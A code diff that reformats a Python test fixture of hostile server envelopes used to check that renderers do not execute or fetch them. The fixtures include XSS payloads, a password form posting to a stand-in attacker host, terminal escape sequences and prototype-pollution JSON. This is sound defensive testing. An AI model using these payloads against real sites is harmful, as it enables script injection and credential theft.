@@ -1,4 +1,4 @@
-"""Envelopes that a malicious or broken server could send: no renderer may run, fetch, hide or choke on anything in them."""
+"""Envelopes of a hostile or broken server: no renderer may run, fetch, hide or choke on what is in them."""
 
 from __future__ import annotations
 
@@ -13,8 +13,10 @@ EVIL = "https://evil.example"
 """A host that nothing may ask."""
 RUN = "window.ran=1"
 MARKUP = (
-    f"<script>{RUN}</script><img src=x onerror={RUN}><svg onload={RUN}></svg><iframe srcdoc='<script>parent.ran=1</script>'></iframe>"
-    f"<a href='javascript:{RUN}'>a</a><form action='{EVIL}'><input name=password></form><style>*{{display:none}}</style>"
+    f"<script>{RUN}</script><img src=x onerror={RUN}><svg onload={RUN}></svg>"
+    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>"
+    f"<a href='javascript:{RUN}'>a</a><form action='{EVIL}'><input name=password></form>"
+    "<style>*{display:none}</style>"
 )
 CONTROLS = "\u202e\u2066\u2069\u200b\x00\x1b[31m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b2J\u2028\U000e0041"
 
@@ -204,9 +206,15 @@ CASES: dict[str, Case] = {
     "type constructor": _of("constructor", {"a": 1}),
     "type toString": _of("toString", "shown"),
     "type __proto__": _of("__proto__", "shown"),
-    "members named __proto__": '{"type": "text", "payload": "a", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
-    "json with __proto__": '{"type": "json", "payload": {"__proto__": {"polluted": 1}, "hasOwnProperty": 1, "length": -1}}',
-    "table with a column __proto__": '{"type": "table", "payload": [{"__proto__": 1, "constructor": 2, "toString": null}]}',
+    "members named __proto__": (
+        '{"type": "text", "payload": "a", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
+    ),
+    "json with __proto__": (
+        '{"type": "json", "payload": {"__proto__": {"polluted": 1}, "hasOwnProperty": 1, "length": -1}}'
+    ),
+    "table with a column __proto__": (
+        '{"type": "table", "payload": [{"__proto__": 1, "constructor": 2, "toString": null}]}'
+    ),
     # Giants
     "table of 100,000 rows": lambda: _table(100_000),
     "table of 300,000 rows": lambda: _table(300_000, 2),
@@ -253,7 +261,9 @@ CASES: dict[str, Case] = {
     "a number": "7",
     "a string": '"<script>window.ran=1</script>"',
     "an empty object": "{}",
-    "members of other types": '{"type": 7, "payload": null, "title": {}, "alt": [], "fallback": 3, "id": {}, "meta": 1}',
+    "members of other types": (
+        '{"type": 7, "payload": null, "title": {}, "alt": [], "fallback": 3, "id": {}, "meta": 1}'
+    ),
     "a fallback that is no envelope": '{"type": "x-a-b", "payload": {}, "fallback": {"type": null}}',
     "a locale that is none": _of("text", "a", meta={"locale": '"><script>'}),
 }
